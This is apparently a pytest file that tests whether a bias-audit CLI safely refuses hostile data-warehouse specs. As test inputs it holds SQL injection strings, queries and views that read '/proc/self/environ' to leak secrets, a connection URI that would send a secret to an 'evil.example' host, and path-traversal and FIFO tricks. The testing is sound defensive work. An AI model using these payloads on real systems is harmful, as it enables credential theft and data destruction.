"""A catalogue of hostile warehouse sources: no connection, table, query or database file crashes
planner, hangs it, writes through it or leaks a credential.

A bias audit's `predictions` may name a warehouse (`connection`, `table` or `query`, `where`). Spec
validation (`planner.spec.warehouse`) must refuse a literal credential or a statement that is not a
query before any connection is made; the audit (`planner.audit.warehouse`) must turn whatever the
engine says into a diagnostic at the spec key, scrubbed of the connection's credentials. Each case
builds a copy of `examples/german-credit` whose audit reads such a source (a DuckDB database file
made from its predictions CSV, or a server on a closed port: no server is needed) and runs the real
CLI in a separate process (`helpers.hostile.run_case`: exit code, no traceback, the file named, no
control character, no secret of the environment in anything printed or written). On top, a
refused input (exit 2) must leave the project as it was: no file written, none created.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from helpers import hostile
from helpers.hostile import SECRET, Case, german_copy, run_case, snapshot

pytestmark = pytest.mark.slow

AUDIT_SPEC = "specs/bias-audit.yaml"
SPEC_NAME = "bias-audit.yaml"
LINE = 8  # `connection:` (the first key of the `predictions` block, which starts on line 7)
DATABASE = "data/p.duckdb"
TABLE = "loan_scores"
COLUMNS = "good_credit, prediction, score, sex, age_group, foreign_worker"  # german-credit's audit reads these
PG = "postgresql://auditor:${PLANNER_TEST_SECRET}@127.0.0.1:1/scores"  # port 1: refused at once
PREDICTIONS_BLOCK = re.compile(r"^predictions: data/predictions\.csv[^\n]*\n", re.MULTILINE)


@dataclass
class WarehouseCase(Case):
    env: dict[str, str] = field(default_factory=dict)  # added to the catalogue's environment
    absent: tuple[str, ...] = ()  # text the output must not hold
    creates: tuple[str, ...] = ()  # files (relative to the project) that must not exist afterwards


# Builders: each writes a project under `root` and returns its folder


def _yaml(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML double-quoted scalar


def _predictions(root: Path, fields: dict[str, str]) -> None:
    """german-credit's audit with `predictions` as a block of `fields` (connection first)."""
    spec = root / AUDIT_SPEC
    block = "predictions:\n" + "".join(f"  {key}: {_yaml(value)}\n" for key, value in fields.items())
    text, count = PREDICTIONS_BLOCK.subn(block, spec.read_text(), count=1)
    assert count == 1
    spec.write_text(text)


def warehouse(connection: str, *, setup: Callable[[Path], None] | None = None, **fields: str) -> Callable[[Path], Path]:
    """german-credit whose audit reads `connection` with `fields` (`table`, `query`, `where`);
    `setup(root)` then makes the database file, or whatever stands in its place."""

    def build(root: Path) -> Path:
        german_copy(root)
        outside = str(root.parent)
        _predictions(
            root, {"connection": connection, **{k: v.replace("{outside}", outside) for k, v in fields.items()}}
        )
        if setup is not None:
            setup(root)
        return root

    return build


def database(*statements: str, name: str = DATABASE) -> Callable[[Path], None]:
    """A DuckDB database file `name` with table `loan_scores` (german-credit's predictions CSV),
    changed by `statements`."""

    def setup(root: Path) -> None:
        import duckdb

        with duckdb.connect(str(root / name)) as db:
            db.execute(f"CREATE TABLE {TABLE} AS SELECT * FROM read_csv_auto(?)", [str(root / "data/predictions.csv")])
            for statement in statements:
                db.execute(statement)

    return setup


def duckdb_source(*statements: str, **fields: str) -> Callable[[Path], Path]:
    """german-credit whose audit reads a DuckDB file of its predictions (by default its table)."""
    return warehouse(f"duckdb:{DATABASE}", setup=database(*statements), **(fields or {"table": TABLE}))


def outside_link(root: Path) -> None:
    """data/p.duckdb: a link to a real database file beside (outside) the project."""
    outside = root.parent / "outside.duckdb"
    database(name=str(outside))(root)
    (root / DATABASE).symlink_to(outside)


def text_file(root: Path) -> None:
    (root / DATABASE).write_text("good_credit,prediction,score\n1,1,0.5\n")


def fifo(root: Path) -> None:
    os.mkfifo(root / DATABASE)  # a reader that opens it blocks until a writer comes: none will


def folder(root: Path) -> None:
    (root / DATABASE).mkdir()


def outside_csv(root: Path) -> None:
    """outside.csv beside (outside) the project: german-credit's predictions."""
    (root.parent / "outside.csv").write_bytes((root / "data/predictions.csv").read_bytes())


def reading_view(select: str) -> Callable[[Path], Path]:
    """A database file whose `loan_scores` is a view `select` over german-credit's rows (table
    `base`); `{outside}` stands for the folder above the project."""

    def setup(root: Path) -> None:
        outside_csv(root)
        database(
            f"ALTER TABLE {TABLE} RENAME TO base",
            f"CREATE VIEW {TABLE} AS " + select.format(outside=root.parent),
        )(root)

    return warehouse(f"duckdb:{DATABASE}", setup=setup, table=TABLE)


ENVIRONMENT_VIEW = (  # group `sex` of rows past the 100th: the line of the environment holding the secret
    "SELECT good_credit, prediction, score, age_group, foreign_worker, CASE WHEN base.rowid < 100 THEN 'female' "
    "ELSE substr(e.content, strpos(e.content, 'PLANNER_TEST_SECRET='), 40) END AS sex "
    "FROM base, (SELECT content FROM read_text('/proc/self/environ')) AS e"
)
OUTSIDE_VIEW = "SELECT base.* FROM base WHERE (SELECT count(*) FROM read_text('{outside}/outside.csv')) = 1"


def outside_file(root: Path) -> None:
    """A database file one level above the project (what `duckdb:../outside.duckdb` names)."""
    database(name=str(root.parent / "outside.duckdb"))(root)


# Checks beyond the common ones


def json_diagnostic(key: str, line: int = LINE) -> Callable[[str], None]:
    """stdout is JSON whose diagnostics include one at `key` (e.g. `predictions.connection`) on `line`."""

    def check(out: str) -> None:
        found = [
            (d.get("breadcrumb"), d.get("line"), d.get("file", ""))
            for d in _diagnostics(json.loads(out))
            if d.get("severity") == "error"
        ]
        assert any(b == key and n == line and f.endswith(SPEC_NAME) for b, n, f in found), found

    return check


def _diagnostics(data: object) -> list[dict]:
    """Every diagnostic object anywhere in a JSON document."""
    if isinstance(data, dict):
        here = [data] if "severity" in data and "message" in data else []
        return here + [d for value in data.values() for d in _diagnostics(value)]
    if isinstance(data, list):
        return [d for value in data for d in _diagnostics(value)]
    return []


def at(key: str, line: int | None = None) -> dict:
    """A refused spec: exit 2, the spec file named (with `line`), the diagnostic at `key`."""
    return {"names": f"{SPEC_NAME}:{line}:" if line else SPEC_NAME, "shows": (f"at {key}",)}


def refused(key: str, line: int, *shows: str) -> dict:
    spec = at(key, line)
    return {**spec, "shows": spec["shows"] + shows}


SPEC_COMMANDS = [
    (("validate", "{root}"), True),
    (("validate", "{root}", "--format", "json"), False),
    (("status", "{root}"), True),
    (("gate", "{root}", "--format", "json"), False),
    (("gate", "{root}", "--format", "github"), True),
    (("audit", "{root}"), True),
]


def spec_refused(case_id: str, build: Callable[[Path], Path], key: str, line: int, *shows: str, **kw) -> list:
    """The same refused spec through validate (text, JSON), status, gate (JSON, GitHub) and audit."""
    cases = []
    for args, terminal in SPEC_COMMANDS:
        name = "-".join(args[:1] + args[2:]).replace("--format-", "")
        if terminal:
            names = f"{SPEC_NAME}:{line}:" if args[-1] != "github" else SPEC_NAME
            expect = (f"at {key}", *shows) if args[-1] != "github" else shows
            cases.append(WarehouseCase(f"{case_id}-{name}", build, args, 2, names=names, shows=expect, **kw))
        else:
            cases.append(
                WarehouseCase(
                    f"{case_id}-{name}",
                    build,
                    args,
                    2,
                    names=SPEC_NAME,
                    shows=shows,
                    check=json_diagnostic(key, line),
                    terminal=False,
                    **kw,
                )
            )
    return cases


def message(*texts: str) -> Callable[[str], None]:
    """The diagnostic's own message (its `error[...]` line, not the quoted spec line) holds `texts`."""

    def check(out: str) -> None:
        lines = [line for line in out.splitlines() if "error[" in line]
        assert any(all(text in line for text in texts) for line in lines), lines

    return check


CONNECTION, TABLE_KEY, QUERY, WHERE = (f"predictions.{k}" for k in ("connection", "table", "query", "where"))
Q = "SELECT " + COLUMNS + " FROM " + TABLE  # a query that reads the same rows as the table

CASES = [
    # 1. a literal password in the connection: refused by every command, never shown
    *spec_refused(
        "password-literal",
        warehouse(f"postgresql://auditor:{SECRET}@127.0.0.1:5432/scores", table=TABLE),
        CONNECTION,
        LINE,
        "must not hold a password",
    ),
    *spec_refused(
        "password-percent-encoded",  # `s3cr3t%2Dvalue` is the secret too, once decoded
        warehouse("postgresql://auditor:" + SECRET.replace("-", "%2D") + "@127.0.0.1:5432/scores", table=TABLE),
        CONNECTION,
        LINE,
        "must not hold a password",
        absent=(SECRET.replace("-", "%2D"),),
    ),
    WarehouseCase(
        "password-literal-snowflake",
        warehouse(f"snowflake://auditor:{SECRET}@account/db/schema", table=TABLE),
        ("validate", "{root}"),
        2,
        **refused(CONNECTION, LINE, "must not hold a password"),
    ),
    WarehouseCase(
        "password-beside-placeholder",  # `${A}x` is not a placeholder: the rest is literal
        warehouse("postgresql://auditor:${PLANNER_TEST_SECRET}" + SECRET + "@127.0.0.1/scores", table=TABLE),
        ("validate", "{root}"),
        2,
        **refused(CONNECTION, LINE, "must not hold a password"),
    ),
    # 2. a credential in a query parameter
    *(
        WarehouseCase(
            f"query-parameter-{name}",
            warehouse(
                f"postgresql://auditor:${{P}}@127.0.0.1:5432/scores?sslmode=require&{name}={SECRET}", table=TABLE
            ),
            ("validate", "{root}"),
            2,
            **refused(CONNECTION, LINE, "must not hold a credential"),
        )
        for name in ("password", "token", "PASSWORD", "secret", "key")
    ),
    *(
        WarehouseCase(
            f"query-parameter-{name.lower()}",
            warehouse(uri, table=TABLE),
            ("validate", "{root}"),
            2,
            **refused(CONNECTION, LINE, "credential"),
        )
        for name, uri in [
            ("pwd", f"postgresql://auditor:${{P}}@127.0.0.1:5432/scores?pwd={SECRET}"),
            ("private_key_file_pwd", f"snowflake://auditor:${{P}}@account/db/schema?private_key_file_pwd={SECRET}"),
            ("sslpassword", f"postgresql://auditor:${{P}}@127.0.0.1:5432/scores?sslpassword={SECRET}"),
            ("access_token", f"bigquery://project/dataset?access_token={SECRET}"),
            ("spark-connect-token", f"sc://127.0.0.1:15002/;token={SECRET}"),
        ]
    ),
    WarehouseCase(
        "query-parameter-sslpassword-audit",  # what the spec check lets through, the audit must not print
        warehouse(
            f"postgresql://auditor:${{PLANNER_TEST_SECRET}}@127.0.0.1:1/scores?sslpassword={SECRET}", table=TABLE
        ),
        ("audit", "{root}"),
        2,
        **at(CONNECTION, LINE),
    ),
    *spec_refused(
        "query-parameter-token",
        warehouse(f"snowflake://auditor:${{P}}@account/db/schema?token={SECRET}", table=TABLE),
        CONNECTION,
        LINE,
        "must not hold a credential",
    ),
    # 3. `${NAME}` anywhere but the user name and the password: a spec could send any secret anywhere
    *(
        WarehouseCase(
            f"placeholder-in-{part}",
            warehouse(uri, table=TABLE),
            ("validate", "{root}"),
            2,
            **refused(CONNECTION, LINE, "may only stand for the user name, the password"),
        )
        for part, uri in [
            ("host", "postgresql://auditor:${P}@${PLANNER_TEST_SECRET}.evil.example:5432/scores"),
            ("port", "postgresql://auditor:${P}@127.0.0.1:${PLANNER_TEST_SECRET}/scores"),
            ("database", "postgresql://auditor:${P}@127.0.0.1:5432/${PLANNER_TEST_SECRET}"),
            ("query", "postgresql://auditor:${P}@127.0.0.1:5432/scores?application_name=${PLANNER_TEST_SECRET}"),
            ("fragment", "postgresql://auditor:${P}@127.0.0.1:5432/scores#${PLANNER_TEST_SECRET}"),
            ("spark-connect", "sc://${PLANNER_TEST_SECRET}.evil.example:15002"),
            ("bigquery", "bigquery://${PLANNER_TEST_SECRET}/dataset"),
        ]
    ),
    WarehouseCase(
        "placeholder-in-host-audit",  # refused before any connection: the variable is never filled in
        warehouse("postgresql://auditor:${P}@${PLANNER_TEST_SECRET}.evil.example:5432/scores", table=TABLE),
        ("audit", "{root}"),
        2,
        **refused(CONNECTION, LINE, "may only stand for the user name, the password"),
    ),
    # 4. connections planner does not reach, or database files it must not open
    *(
        WarehouseCase(
            f"connection-{name}",
            warehouse(uri, table=TABLE),
            ("validate", "{root}"),
            2,
            **refused(CONNECTION, LINE, *shows),
        )
        for name, uri, shows in [
            ("mysql", "mysql://auditor:${P}@127.0.0.1/scores", ("must start with one of",)),
            ("file-url", "file:///etc/passwd", ("must start with one of",)),
            ("no-scheme", "127.0.0.1:5432/scores", ("must start with one of",)),
            ("spark-host", "spark://127.0.0.1:7077", ("write `spark`",)),
            ("postgres-no-host", "postgresql:///scores", ("HOST",)),
            ("duckdb-no-file", "duckdb:", ("write duckdb:<file>",)),
            ("duckdb-url", "duckdb://127.0.0.1/x.duckdb", ("write duckdb:<file>",)),
            ("duckdb-parent", "duckdb:../outside.duckdb", ()),
            ("duckdb-absolute", "duckdb:/etc/passwd", ()),
            ("duckdb-deep-parent", "duckdb:data/../../outside.duckdb", ()),
        ]
    ),
    WarehouseCase(
        "connection-duckdb-parent-audit",  # a real database file is there: still never opened
        warehouse("duckdb:../outside.duckdb", setup=outside_file, table=TABLE),
        ("audit", "{root}"),
        2,
        **at(CONNECTION, LINE),
    ),
    WarehouseCase(
        "connection-duckdb-memory",  # `:memory:` is a name of DuckDB's, not a file of the project
        warehouse("duckdb::memory:", table=TABLE),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("connection",),
    ),
    # 5. table and query: exactly one, a name, one SELECT; a filter without `;`
    WarehouseCase(
        "table-and-query",
        warehouse(PG, table=TABLE, query=Q),
        ("validate", "{root}"),
        2,
        names=f"{SPEC_NAME}:{LINE}:",
        shows=("exactly one of `table` and `query`", "at predictions\n"),
    ),
    WarehouseCase(
        "neither-table-nor-query",
        warehouse(PG),
        ("validate", "{root}"),
        2,
        names=f"{SPEC_NAME}:{LINE}:",
        shows=("exactly one of `table` and `query`", "at predictions\n"),
    ),
    *(
        WarehouseCase(
            f"table-{name}", warehouse(PG, table=value), ("validate", "{root}"), 2, **refused(TABLE_KEY, LINE + 1)
        )
        for name, value in [
            ("statement", "t; DROP TABLE x"),
            ("quoted", '"t"'),
            ("comment", "t --"),
            ("four-parts", "a.b.c.d"),
            ("space", "loan scores"),
            ("function", "read_csv('/etc/passwd')"),
            ("empty", ""),
        ]
    ),
    *(
        WarehouseCase(
            f"query-{name}", warehouse(PG, query=value), ("validate", "{root}"), 2, **refused(QUERY, LINE + 1, shows)
        )
        for name, value, shows in [
            ("delete", "DELETE FROM t", "one SELECT"),
            ("drop", "DROP TABLE t", "one SELECT"),
            ("two-statements", "SELECT 1; DROP TABLE t", "single statement"),
            ("two-selects", f"{Q}; {Q}", "single statement"),
            ("newline-statement", "SELECT 1;\nDROP TABLE t", "single statement"),
        ]
    ),
    *(
        WarehouseCase(
            f"where-{name}",
            warehouse(PG, table=TABLE, where=value),
            ("validate", "{root}"),
            2,
            **refused(WHERE, LINE + 2, "without `;`"),
        )
        for name, value in [("statement", "1=1; DROP TABLE t"), ("trailing-semicolon", "1=1;")]
    ),
    # 6. audit time, no server: a closed port, a variable that is not set, an engine not installed
    *(
        WarehouseCase(
            f"closed-port-{'-'.join(args[:1] + args[2:])}",
            warehouse(PG, table=TABLE),
            args,
            2,
            names=f"{SPEC_NAME}:{LINE}:" if args[-1] != "json" else SPEC_NAME,
            shows=("cannot connect",) + (("at predictions.connection",) if args[-1] != "json" else ()),
            check=json_diagnostic(CONNECTION) if args[-1] == "json" else None,
            terminal=args[-1] != "json",
            absent=("PLANNER_TEST_SECRET}@", "auditor:"),  # the filled URI, or its user information
        )
        for args in [("audit", "{root}"), ("gate", "{root}", "--format", "json"), ("report", "{root}")]
    ),
    WarehouseCase(
        "closed-port-secret-user",  # the secret as the user name, the password a placeholder
        warehouse("postgresql://${PLANNER_TEST_SECRET}:${PLANNER_TEST_SECRET}@127.0.0.1:1/scores", table=TABLE),
        ("audit", "{root}"),
        2,
        **refused(CONNECTION, LINE, "cannot connect"),
    ),
    WarehouseCase(
        "closed-port-secret-encoded",  # a secret that percent-encoding changes: neither form shown
        warehouse(PG, table=TABLE),
        ("audit", "{root}"),
        2,
        **refused(CONNECTION, LINE, "cannot connect"),
        env={"PLANNER_TEST_SECRET": SECRET + "/@:%"},
        absent=(SECRET,),
    ),
    WarehouseCase(
        "unset-variable",
        warehouse("postgresql://auditor:${PLANNER_UNSET_VAR_X}@127.0.0.1:1/scores", table=TABLE),
        ("audit", "{root}"),
        2,
        **refused(CONNECTION, LINE, "PLANNER_UNSET_VAR_X", "not set"),
    ),
    WarehouseCase(
        "snowflake-not-reachable",  # no driver (or no account): a diagnostic, the secret scrubbed
        warehouse("snowflake://auditor:${PLANNER_TEST_SECRET}@account/db/schema", table=TABLE),
        ("audit", "{root}"),
        2,
        **at(CONNECTION, LINE),
        seconds=90,
    ),
    # 7. DuckDB database files: what the engine holds or says becomes a diagnostic at the key
    # honest controls: the same rows through a table, a query and a filter audit as the CSV does (exit 1)
    WarehouseCase("duckdb-table-valid", duckdb_source(), ("audit", "{root}"), 1, shows=("status: fail",)),
    WarehouseCase("duckdb-query-valid", duckdb_source(query=Q), ("audit", "{root}"), 1, shows=("status: fail",)),
    WarehouseCase(
        "duckdb-where-valid",
        duckdb_source(table=TABLE, where="score >= 0"),
        ("audit", "{root}"),
        1,
        shows=("status: fail",),
    ),
    WarehouseCase(
        "duckdb-missing-table",
        duckdb_source(table="no_such_table"),
        ("audit", "{root}"),
        2,
        **refused(TABLE_KEY, LINE + 1, "no_such_table"),
    ),
    WarehouseCase(
        "duckdb-missing-schema",
        duckdb_source(table="nowhere.loan_scores"),
        ("audit", "{root}"),
        2,
        **at(TABLE_KEY, LINE + 1),
    ),
    WarehouseCase(
        "duckdb-score-text",
        duckdb_source("ALTER TABLE loan_scores ALTER score TYPE VARCHAR"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("not numeric", "'score'"),
    ),
    WarehouseCase(
        "duckdb-score-above-one",
        duckdb_source("UPDATE loan_scores SET score = 1.5 WHERE rowid < 3"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("outside [0, 1]", "3 value(s)"),
    ),
    WarehouseCase(
        "duckdb-score-negative",
        duckdb_source("UPDATE loan_scores SET score = -0.25 WHERE rowid = 7"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("outside [0, 1]",),
    ),
    WarehouseCase(
        "duckdb-score-infinite",
        duckdb_source("UPDATE loan_scores SET score = 'inf'::DOUBLE WHERE rowid = 7"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("outside [0, 1]",),
    ),
    WarehouseCase(
        "duckdb-score-null",
        duckdb_source("UPDATE loan_scores SET score = NULL WHERE rowid < 2"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("missing or NaN", "2 "),
    ),
    WarehouseCase(
        "duckdb-score-huge",  # finite, but its bin overflows a BIGINT
        duckdb_source("UPDATE loan_scores SET score = 1e300 WHERE rowid = 7"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("outside [0, 1]",),
    ),
    WarehouseCase(
        "duckdb-score-nan",
        duckdb_source("UPDATE loan_scores SET score = 'nan'::DOUBLE WHERE rowid = 7"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("missing or NaN",),
    ),
    WarehouseCase(
        "duckdb-label-three-values",
        duckdb_source("UPDATE loan_scores SET good_credit = 2 WHERE rowid = 7"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("good_credit",),
    ),
    WarehouseCase(
        "duckdb-label-null",
        duckdb_source("UPDATE loan_scores SET good_credit = NULL WHERE rowid = 7"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("good_credit",),
    ),
    WarehouseCase(
        "duckdb-column-missing",
        duckdb_source("ALTER TABLE loan_scores DROP COLUMN age_group"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("age_group",),
    ),
    WarehouseCase(
        "duckdb-reserved-group-name",  # a group column named like a computed one (`count`)
        duckdb_source("ALTER TABLE loan_scores RENAME COLUMN sex TO count"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        shows=("sex",),
    ),
    WarehouseCase(
        "duckdb-empty-table",
        duckdb_source("DELETE FROM loan_scores"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
    ),
    WarehouseCase(
        "duckdb-query-delete-in-cte",  # passes the spec's check (WITH ...), refused before DuckDB runs it
        duckdb_source(query=f"WITH d AS (DELETE FROM {TABLE} RETURNING *) SELECT * FROM d"),
        ("audit", "{root}"),
        2,
        **refused(QUERY, LINE + 1, "not one SELECT"),
    ),
    WarehouseCase(
        "duckdb-query-insert-in-cte",
        duckdb_source(query=f"WITH d AS (INSERT INTO {TABLE} SELECT * FROM {TABLE} RETURNING *) SELECT * FROM d"),
        ("audit", "{root}"),
        2,
        **refused(QUERY, LINE + 1, "not one SELECT"),
    ),
    WarehouseCase(
        "duckdb-query-missing-column",
        duckdb_source(query=f"SELECT {COLUMNS}, no_such_column FROM {TABLE}"),
        ("audit", "{root}"),
        2,
        **at(QUERY, LINE + 1),
        check=message("no_such_column"),
    ),
    WarehouseCase(
        "duckdb-query-syntax-error",
        duckdb_source(query=f"SELECT {COLUMNS} FROM {TABLE} WHERE"),
        ("audit", "{root}"),
        2,
        **at(QUERY, LINE + 1),
    ),
    WarehouseCase(
        "duckdb-query-lacks-score",  # the query runs; the audit's score column is not in its rows
        duckdb_source(query=f"SELECT good_credit, prediction, sex, age_group, foreign_worker FROM {TABLE}"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
        check=message("'score'"),
    ),
    WarehouseCase(
        "duckdb-query-runtime-error",  # a failing cast of a column raises only when the rows are read
        duckdb_source(query=f"SELECT {COLUMNS} FROM {TABLE} WHERE CAST(sex || 'x' AS INTEGER) > 0"),
        ("audit", "{root}"),
        2,
        **at(QUERY, LINE + 1),
    ),
    WarehouseCase(
        "duckdb-where-syntax-error",
        duckdb_source(table=TABLE, where="score >= AND"),
        ("audit", "{root}"),
        2,
        **at(WHERE, LINE + 2),
    ),
    WarehouseCase(
        "duckdb-where-missing-column",
        duckdb_source(table=TABLE, where="no_such_column > 1"),
        ("audit", "{root}"),
        2,
        **at(WHERE, LINE + 2),
        check=message("no_such_column"),
    ),
    WarehouseCase(
        "duckdb-where-escapes-parentheses",  # closes the filter's parentheses to add a statement
        duckdb_source(table=TABLE, where="1=1) UNION ALL (SELECT * FROM loan_scores"),
        ("audit", "{root}"),
        2,
        **at(WHERE, LINE + 2),
    ),
    WarehouseCase(
        "duckdb-where-no-rows",
        duckdb_source(table=TABLE, where="score > 2"),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
    ),
    WarehouseCase(
        "duckdb-query-reads-environment",  # a SELECT may read any file DuckDB can: the CI job's secrets
        duckdb_source(
            query="SELECT good_credit, prediction, score, content AS sex, age_group, foreign_worker "
            f"FROM {TABLE}, read_text('/proc/self/environ')"
        ),
        ("audit", "{root}"),
        2,
        **at(QUERY, LINE + 1),
    ),
    WarehouseCase(
        "duckdb-query-reads-outside-file",
        warehouse(
            f"duckdb:{DATABASE}",
            setup=lambda root: (database()(root), outside_csv(root)),
            query="SELECT * FROM read_csv_auto('{outside}/outside.csv')",
        ),
        ("audit", "{root}"),
        2,
        **at(QUERY, LINE + 1),
    ),
    WarehouseCase(
        "duckdb-view-reads-environment",  # the database file is the project's: a pull request may change it
        reading_view(ENVIRONMENT_VIEW),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
    ),
    WarehouseCase(
        "duckdb-view-reads-outside-file",
        reading_view(OUTSIDE_VIEW),
        ("audit", "{root}"),
        2,
        names=SPEC_NAME,
    ),
    WarehouseCase(
        "duckdb-link-outside",
        warehouse(f"duckdb:{DATABASE}", setup=outside_link, table=TABLE),
        ("audit", "{root}"),
        2,
        **at(CONNECTION, LINE),
    ),
    WarehouseCase(
        "duckdb-text-file",
        warehouse(f"duckdb:{DATABASE}", setup=text_file, table=TABLE),
        ("audit", "{root}"),
        2,
        **at(CONNECTION, LINE),
    ),
    WarehouseCase(
        "duckdb-fifo",
        warehouse(f"duckdb:{DATABASE}", setup=fifo, table=TABLE),
        ("audit", "{root}"),
        2,
        **at(CONNECTION, LINE),
        seconds=30,
    ),
    WarehouseCase(
        "duckdb-folder",
        warehouse(f"duckdb:{DATABASE}", setup=folder, table=TABLE),
        ("audit", "{root}"),
        2,
        **at(CONNECTION, LINE),
    ),
    WarehouseCase(
        "duckdb-missing-file",  # not created by opening it
        warehouse("duckdb:data/missing.duckdb", table=TABLE),
        ("audit", "{root}"),
        2,
        **at(CONNECTION, LINE),
        creates=("data/missing.duckdb", "data/missing.duckdb.wal"),
    ),
]


@pytest.mark.parametrize("case", [pytest.param(case, id=case.id) for case in CASES])
def test_hostile_warehouse(case: WarehouseCase, built, tmp_path, monkeypatch):
    for name, value in case.env.items():
        monkeypatch.setitem(hostile.ENV, name, value)
    root = built(case.build)
    before = {path: path.read_bytes() for path in snapshot(root)}
    result = run_case(case, root, tmp_path)
    out = result.stdout + result.stderr
    assert "has no attribute" not in out  # an AttributeError of planner or a library, as a "diagnostic"
    for text in case.absent:
        assert text not in out, text
    for name in case.creates:
        assert not (root / name).exists(), name
    if case.code == 2:  # refused: nothing written, nothing half-written, nothing created
        after = snapshot(root)
        assert set(after) == set(before), set(after) ^ set(before)
        changed = [path for path in after if path.read_bytes() != before[path]]
        assert not changed, changed
